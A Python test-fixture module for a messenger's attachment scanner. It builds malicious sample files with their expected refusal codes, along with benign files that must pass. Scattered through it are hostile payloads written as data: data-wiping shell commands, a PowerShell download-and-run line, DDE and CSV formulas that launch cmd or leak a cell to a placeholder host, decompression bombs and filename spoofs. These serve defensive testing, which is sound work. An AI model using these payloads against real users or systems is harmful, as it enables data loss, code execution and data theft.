"""Files that nobody should get without a word, each with what must become of it; and honest ones like them, which must
pass unmarked. Everything is made here, so that no scanner on a developer's machine minds the sources."""

import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from messenger.domain.attachment import Mark, Refusal
from tests.support.file_makers import (
    DOCUMENT,
    HYPERLINK,
    MB,
    OPEN_TEXT,
    RELATION,
    SHEET,
    SLIDES,
    TYPES,
    WORD,
    eicar,
    gif_of_many,
    heic,
    jpeg,
    mail,
    moving,
    nested,
    noise,
    objects,
    office_bomb,
    open_text,
    pdf,
    picture,
    png_header,
    raw_zip,
    sheet,
    slides,
    stream,
    tiff,
    word,
    zeros,
    zipped,
    zlib_zeros,
)


@dataclass(frozen=True, slots=True, kw_only=True)
class BadFile:
    """`becomes`: the code of its refusal, or the marks with which it is delivered."""

    title: str
    name: str
    mime: str
    data: bytes
    becomes: Refusal | frozenset[Mark]


def with_virus() -> Iterator[BadFile]:
    """What only a scanner can tell."""
    yield _bad("eicar as text", "note.txt", "text/plain", eicar(), "virus")
    yield _bad("eicar without a type", "note", "", eicar(), "virus")
    yield _bad("eicar in a document", "a.docx", WORD, word(word__media__a_d_txt=eicar()), "virus")
    yield _bad("eicar in a table in a document", "a.docx", WORD,
               word(word__embeddings__t_d_xlsx=sheet(xl__media__a_d_txt=eicar())), "virus")  # fmt: skip
    yield _bad("eicar in an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b"<x/>", "Pictures/a.txt": eicar()}), "virus")  # fmt: skip


def bad_files() -> Iterator[BadFile]:
    """What is refused or marked without any scanner."""
    yield from _not_allowed()
    yield from _two_things()
    yield from _bombs()
    yield from _office()
    yield from _pdfs()
    yield from _texts()


def _bad(title: str, name: str, mime: str, data: bytes, *becomes: str) -> BadFile:
    is_code = len(becomes) == 1 and becomes[0] in Refusal.__args__  # type: ignore[attr-defined]
    return BadFile(title=title, name=name, mime=mime, data=data, becomes=becomes[0] if is_code else frozenset(becomes))  # type: ignore[arg-type]


def _not_allowed() -> Iterator[BadFile]:
    yield _bad("eicar in an archive", "a.zip", "application/zip", zipped({"eicar.com": eicar()}), "type_not_allowed")
    yield _bad("eicar in archives", "a.zip", "application/zip", nested(3, eicar()), "type_not_allowed")
    yield _bad("eicar in a mail", "invoice.eml", "message/rfc822", mail(), "type_not_allowed")
    yield _bad("eicar as a program", "eicar.com", "", eicar(), "type_not_allowed")
    yield _bad("a Windows program", "setup.exe", "", b"MZ\x90\0" + bytes(500), "type_not_allowed")
    yield _bad("a program as a picture", "a.png", "image/png", b"MZ\x90\0" + bytes(500), "type_not_allowed")
    yield _bad("a Linux program as a PDF", "a.pdf", "application/pdf", b"\x7fELF\2\1\1" + bytes(99), "type_not_allowed")
    yield _bad("a Mac program", "a.pdf", "", b"\xcf\xfa\xed\xfe" + bytes(99), "type_not_allowed")
    yield _bad("a script", "run.txt", "text/plain", b"#!/bin/sh\nrm -rf ~\n", "type_not_allowed")
    yield _bad("a batch file", "run.bat", "text/plain", b"@echo off\ndel *\n", "type_not_allowed")
    yield _bad("a script of PowerShell", "a.ps1", "text/plain", b"iex (iwr http://x)\n", "type_not_allowed")
    yield _bad("a shortcut", "a.lnk", "", b"L\0\0\0\1\x14\2\0" + bytes(99), "type_not_allowed")
    yield _bad("a name with two ends", "invoice.exe.pdf", "application/pdf", pdf(b"<<>>"), "type_not_allowed")
    yield _bad("a name written backwards", "a\u202efdp.exe", "application/pdf", pdf(b"<<>>"), "type_not_allowed")
    yield _bad("a page", "a.html", "text/html", b"<html><script>alert(1)</script></html>", "type_not_allowed")
    yield _bad("a page as text", "a.txt", "text/plain", b"\xef\xbb\xbf \n<!DOCTYPE html><script>", "type_not_allowed")
    yield _bad("a page in UTF-16", "a.txt", "text/plain", "\ufeff<script>x()</script>".encode("utf-16-le"),
               "type_not_allowed")  # fmt: skip
    yield _bad("a drawing with a script", "a.svg", "image/svg+xml", b"<svg onload='x()'/>", "type_not_allowed")
    yield _bad("a drawing as a picture", "a.png", "image/png", b"<?xml?><svg><script/></svg>", "type_not_allowed")
    yield _bad("an application of HTML", "a.hta", "", b"<script language=vbscript>", "type_not_allowed")
    yield _bad("WebAssembly", "a.pdf", "", b"\0asm\1\0\0\0", "type_not_allowed")
    yield _bad("a Java program", "a.jar", "", zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}), "type_not_allowed")
    yield _bad("a disk image", "a.iso", "", bytes(32_769) + b"CD001" + bytes(99), "type_not_allowed")
    yield _bad("an old Word document", "a.doc", "application/msword", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
               "type_not_allowed")  # fmt: skip


def _two_things() -> Iterator[BadFile]:
    archive = zipped({"evil.exe": b"MZ" + bytes(50)})
    yield _bad("a picture that is a PDF by its name", "a.pdf", "application/pdf", picture("PNG"), "mismatch")
    yield _bad("a PDF that is declared a picture", "a.png", "image/png", pdf(b"<<>>"), "mismatch")
    yield _bad("a PDF that is an archive", "a.pdf", "application/pdf", pdf(b"<<>>") + archive, "mismatch")
    yield _bad("a picture that is an archive", "a.jpg", "image/jpeg", picture("JPEG") + archive, "mismatch")
    yield _bad("a moving picture that is an archive", "a.gif", "image/gif", picture("GIF") + archive, "mismatch")
    yield _bad("a text that is an archive", "a.txt", "text/plain", b"hello\n" * 3 + archive, "type_not_allowed")
    yield _bad("a picture that is a PDF", "a.gif", "image/gif", picture("GIF") + pdf(b"<<>>"), "mismatch")
    yield _bad("a script as a picture", "a.gif", "image/gif", b"GIF89a/*" + b"\xff" * 9 + b"*/=1;alert(1)", "bomb")
    yield _bad("an archive before its document", "a.docx", WORD, _before(word(), b"PK\x03\x04junk"), "mismatch")
    yield _bad("a document of which two names differ", "a.docx", WORD, _renamed(word()), "mismatch")
    yield _bad("a document without its list", "a.docx", WORD, zipped({"word/document.xml": DOCUMENT}),
               "type_not_allowed")  # fmt: skip
    yield _bad("half a picture", "a.png", "image/png", picture("PNG")[:20], "mismatch")
    yield _bad("a picture with a wrong checksum", "a.png", "image/png", _spoiled(picture("PNG"), 18), "mismatch")
    yield _bad("nothing", "a.pdf", "application/pdf", b"", "empty")


def _before(archive: bytes, junk: bytes) -> bytes:
    return junk + archive


def _renamed(archive: bytes) -> bytes:
    at = archive.index(b"word/document.xml")
    return archive[:at] + b"word/dokument.xml" + archive[at + 17 :]


def _spoiled(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def _bombs() -> Iterator[BadFile]:
    many = zeros(300)
    yield _bad("a document that unpacks to 300 MB", "a.docx", WORD,
               office_bomb(("word/media/a.txt", many, 300 * MB)), "bomb")  # fmt: skip
    yield _bad("a document that hides how much it is", "a.docx", WORD,
               office_bomb(("word/media/a.txt", zeros(5), 100)), "bomb")  # fmt: skip
    yield _bad("a document of thousand times its size", "a.docx", WORD,
               office_bomb(("word/media/a.txt", zeros(20), 20 * MB)), "bomb")  # fmt: skip
    yield _bad("members that share their bytes", "a.docx", WORD,
               office_bomb(*(("word/a.txt", noise(9), 9 * 1024) for _ in range(50)), shared=True), "bomb")  # fmt: skip
    yield _bad("twenty thousand members", "a.docx", WORD,
               office_bomb(*((f"word/{n}.xml", b"\3\0", 0) for n in range(20_000))), "bomb")  # fmt: skip
    yield _bad("archives in archives", "a.docx", WORD, word(word__embeddings__a_d_zip=nested(6, b"x")), "bomb")
    yield _bad("an archive of zeros in a document", "a.docx", WORD,
               word(word__embeddings__a_d_zip=raw_zip(("a", many, 300 * MB))), "bomb")  # fmt: skip
    yield _bad("a picture of 10⁹ pixels", "a.png", "image/png", png_header(40_000, 25_000), "bomb")
    yield _bad("a picture of 65,000 by 65,000", "a.png", "image/png", png_header(65_000, 65_000), "bomb")
    yield _bad("a photo of 4·10⁹ pixels", "a.jpg", "image/jpeg", jpeg(65_535, 65_535), "bomb")
    yield _bad("a photo of a phone, enormous", "a.heic", "image/heic", heic(60_000, 60_000), "bomb")
    yield _bad("a WebP of 2.6·10⁸ pixels", "a.webp", "image/webp",
               b"RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\x3f\0" * 2, "bomb")  # fmt: skip
    yield _bad("a scan whose second page is enormous", "a.tif", "image/tiff", tiff((10, 10), (60_000, 60_000)), "bomb")
    yield _bad("a film of 20,000 pictures", "a.gif", "image/gif", gif_of_many(20_000), "bomb")
    yield _bad("a picture with a text of 200 MB", "a.png", "image/png",
               png_header(9, 9, (b"zTXt", b"a\0\0" + zlib_zeros(200))), "bomb")  # fmt: skip
    yield _bad("a PDF that is packed twice", "a.pdf", "application/pdf",
               pdf(stream(zlib.compress(zlib_zeros(150), 9), b"[/FlateDecode/FlateDecode]")),
               "bomb")  # fmt: skip
    yield _bad("a PDF whose objects burst", "a.pdf", "application/pdf",
               pdf(objects(zlib_zeros(300), packed=False)), "bomb")  # fmt: skip


def _office() -> Iterator[BadFile]:
    yield _bad("macros of Word", "a.docx", WORD, word(word__vbaProject_d_bin=b"x"), "active")
    yield _bad("macros under another name", "a.docx", WORD,
               zipped({"[Content_Types].xml": TYPES % b"application/vnd.ms-office.vbaProject", "word/a.bin": b"x",
                       "word/document.xml": DOCUMENT}), "active")  # fmt: skip
    yield _bad("a macro document as another", "a.docx", WORD,
               zipped({"[Content_Types].xml": TYPES % b"application/vnd.ms-word.document.macroEnabled.main+xml",
                       "word/document.xml": DOCUMENT}), "active")  # fmt: skip
    yield _bad("a macro document by its name", "a.docm", WORD, word(), "type_not_allowed")
    yield _bad("macros of Excel 4", "a.xlsx", SHEET, sheet(xl__macrosheets__a_d_xml=b"<m/>"), "active")
    yield _bad("a list of parts in UTF-16", "a.docx", WORD,
               zipped({"[Content_Types].xml": (TYPES % b"vnd.ms-office.vbaProject").decode().encode("utf-16"),
                       "word/document.xml": DOCUMENT}), "active")  # fmt: skip
    yield _bad("macros of an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b"<x/>", "Basic/Standard/a.xml": b"Sub A"}), "active")  # fmt: skip
    yield _bad("a script of an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b"<x/>", "Scripts/python/a.py": b"x"}), "active")  # fmt: skip
    yield _bad("a button of an open document", "a.odt", OPEN_TEXT,
               open_text({"content.xml": b'<script:event-listener xlink:href="vnd.sun.star.script:x"/>'}),
               "script")  # fmt: skip
    yield _bad("a program in a document", "a.docx", WORD, word(word__embeddings__a_d_bin=b"MZ" + bytes(99)), "active")
    yield _bad("a program in a document by its name", "a.docx", WORD, word(word__embeddings__a_d_exe=b"x"), "active")
    yield _bad("an object in a document", "a.docx", WORD, word(word__embeddings__oleObject1_d_bin=b"\xd0\xcf"),
               "embedded")  # fmt: skip
    yield _bad("a page in a document", "a.docx", WORD, word(word__chunk_d_htm=b"<html>"), "embedded")
    yield _bad("a control in a document", "a.docx", WORD, word(word__activeX__activeX1_d_xml=b"<ax/>"), "script")
    yield _bad("a template from outside", "a.docx", WORD,
               word(word___rels__settings_d_xml_d_rels=RELATION % (b"attachedTemplate", b"http://x", b"External")),
               "remote")  # fmt: skip
    yield _bad("a template from outside, spelled in numbers", "a.docx", WORD,
               word(word___rels__settings_d_xml_d_rels=RELATION % (b"attachedTemplate", b"http://x", b"&#69;xternal")),
               "remote")  # fmt: skip
    yield _bad("a field that starts a program", "a.docx", WORD,
               word(word__document_d_xml=b"<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>"),
               "script")  # fmt: skip
    yield _bad("a link of Excel that starts a program", "a.xlsx", SHEET,
               sheet(xl__externalLinks__e_d_xml=b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
               "script")  # fmt: skip
    yield _bad("a slide that starts a program", "a.pptx", SLIDES,
               slides(ppt__slides__s_d_xml=b'<a:hlinkClick action="ppaction://program"/>'), "launch")  # fmt: skip
    yield _bad("macros in a table in a document", "a.docx", WORD,
               word(word__embeddings__t_d_xlsx=sheet(xl__vbaProject_d_bin=b"x")), "active")  # fmt: skip
    yield _bad("a locked open document", "a.odt", OPEN_TEXT,
               open_text({"META-INF/manifest.xml": b"<manifest:encryption-data/>", "content.xml": b"\1\2"}),
               "locked")  # fmt: skip


def _pdfs() -> Iterator[BadFile]:
    mime = "application/pdf"
    action = b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    yield _bad("a PDF with a script", "a.pdf", mime, pdf(action), "script")
    yield _bad("a PDF with a script, spelled in numbers", "a.pdf", mime, pdf(b"<</S/J#61v#61Script/JS(x)>>"), "script")
    yield _bad("a PDF with a script in packed objects", "a.pdf", mime, pdf(objects(b"1 0 " + action)), "script")
    yield _bad("a PDF whose packing is spelled in numbers", "a.pdf", mime,
               pdf(objects(action).replace(b"/ObjStm", b"/Obj#53tm")), "script")  # fmt: skip
    yield _bad("a PDF that starts a program", "a.pdf", mime, pdf(b"<</A<</S/Launch/F(cmd.exe)>>>>"), "launch")
    yield _bad("a PDF with a file inside", "a.pdf", mime, pdf(b"<</Type/EmbeddedFile>>"), "embedded")
    yield _bad("a PDF with a film inside", "a.pdf", mime, pdf(b"<</Subtype/RichMedia>>"), "embedded")
    yield _bad("a PDF with a form that runs", "a.pdf", mime, pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), "script")
    yield _bad("a PDF that sends its form", "a.pdf", mime, pdf(b"<</S/SubmitForm/F(http://x)>>"), "remote")
    yield _bad("a PDF that fetches another", "a.pdf", mime, pdf(b"<</S/GoToR/F(\\\\\\\\x\\\\a)>>"), "remote")
    yield _bad("a locked PDF", "a.pdf", mime, pdf(b"<</Encrypt 5 0 R>>"), "locked")
    yield _bad("a PDF with objects packed in an odd way", "a.pdf", mime,
               pdf(objects(b"(x)", b"[/ASCII85Decode/FlateDecode]", packed=False)), "locked")  # fmt: skip
    yield _bad("a PDF with everything", "a.pdf", mime, pdf(action, b"<</S/Launch>>", b"<</Type/EmbeddedFile>>"),
               "script", "launch", "embedded")  # fmt: skip


def _texts() -> Iterator[BadFile]:
    yield _bad("a table that starts a program", "a.csv", "text/csv", b"a;b\n=cmd|'/c calc'!A0;2\n", "formula")
    yield _bad(
        "a table that tells others", "a.csv", "text/csv", b'name,x\n"=HYPERLINK(""http://x""&A1)",1\n', "formula"
    )
    yield _bad("a table that fetches", "a.csv", "text/csv", b'+WEBSERVICE("http://x"),1\n', "formula")
    yield _bad("RTF with an object", "a.rtf", "application/rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
               "embedded")  # fmt: skip
    yield _bad("RTF with a field that starts a program", "a.rtf", "application/rtf",
               b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}", "script")  # fmt: skip
    yield _bad("RTF with a template from outside", "a.rtf", "application/rtf", b"{\\rtf1{\\*\\template http://x}}",
               "remote")  # fmt: skip


def honest_files() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """(name, type, how it is made): what customers send every day."""
    yield "photo.jpg", "image/jpeg", lambda: picture("JPEG", (1200, 900))
    yield "screen.png", "image/png", lambda: picture("PNG", (1280, 720))
    yield "small.gif", "image/gif", lambda: moving("GIF")
    yield "moving.png", "image/png", lambda: moving("PNG")
    yield "moving.webp", "image/webp", lambda: moving("WEBP")
    yield "still.webp", "image/webp", lambda: picture("WEBP")
    yield "scan.tif", "image/tiff", lambda: moving("TIFF")
    yield "phone.heic", "image/heic", lambda: heic(4032, 3024)
    yield "letter.pdf", "application/pdf", lambda: pdf(b"<</OpenAction[3 0 R/Fit]/URI(https://example.org)>>")
    yield "objects.pdf", "application/pdf", lambda: pdf(objects(b"1 0 <</Type/Page>>"), stream(zlib.compress(b"BT ET")))
    yield "white.pdf", "application/pdf", lambda: pdf(stream(zlib_zeros(9)))
    yield (
        "letter.docx",
        WORD,
        lambda: word(word___rels__document_d_xml_d_rels=HYPERLINK, word__media__i_d_png=picture("PNG")),
    )
    yield "table.xlsx", SHEET, lambda: sheet(xl__sheet1_d_xml=b"<c><v>1</v></c>" * 200_000)
    yield "slides.pptx", SLIDES, lambda: slides(ppt__slides__s1_d_xml=b"<p:sld/>")
    yield "letter.odt", OPEN_TEXT, lambda: open_text({"content.xml": b"<office:scripts/><text:p>x</text:p>"})
    yield "notes.txt", "text/plain", lambda: "Grüße, 您好\n- eins\n- zwei @anna\n= 3 €\n".encode()
    yield "list.csv", "text/csv", lambda: b"name;sum\n-5,00;+49 30 1234\n=SUM(A1:A2);2\n"
    yield "letter.rtf", "application/rtf", lambda: b"{\\rtf1\\ansi Guten Tag}"
